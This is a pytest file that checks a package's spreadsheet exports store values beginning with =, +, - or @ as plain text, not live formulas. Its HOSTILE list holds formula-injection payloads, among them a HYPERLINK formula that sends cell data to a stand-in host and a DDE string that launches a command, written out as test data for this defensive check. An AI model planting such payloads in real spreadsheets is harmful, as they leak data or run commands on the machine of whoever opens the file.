"""Every export writes text as text: a value from GSTN that starts with =, +, - or @ is never a formula
(issue 11, item 2). Read back with openpyxl, as Excel would load it."""

from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from india_ims.ims import sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def _round_trip(values, **kwargs):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append([sheets.cell(sheet, value, **kwargs) for value in values])
    out = BytesIO()
    book.save(out)
    return load_workbook(BytesIO(out.getvalue()))["S"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(value):
    cell = _round_trip([value])["A1"]
    assert cell.data_type == "s"
    assert cell.value == value


def test_numbers_and_dates_keep_their_type_and_get_a_format():
    sheet = _round_trip([12.5, 3, date(2026, 11, 5)], money=False)
    assert sheet["A1"].value == 12.5 and sheet["A1"].data_type == "n"
    assert sheet["B1"].value == 3 and sheet["B1"].number_format == sheets.COUNT_FORMAT
    assert sheet["C1"].value.date() == date(2026, 11, 5) and sheet["C1"].number_format == sheets.DATE_FORMAT


def test_money_gets_the_money_format():
    assert _round_trip([1234.5], money=True)["A1"].number_format == sheets.MONEY_FORMAT


def test_only_the_totals_this_module_writes_are_formulas():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append([sheets.formula(sheet, "=SUM(A1:A2)")])
    out = BytesIO()
    book.save(out)
    assert load_workbook(BytesIO(out.getvalue()))["S"]["A1"].data_type == "f"
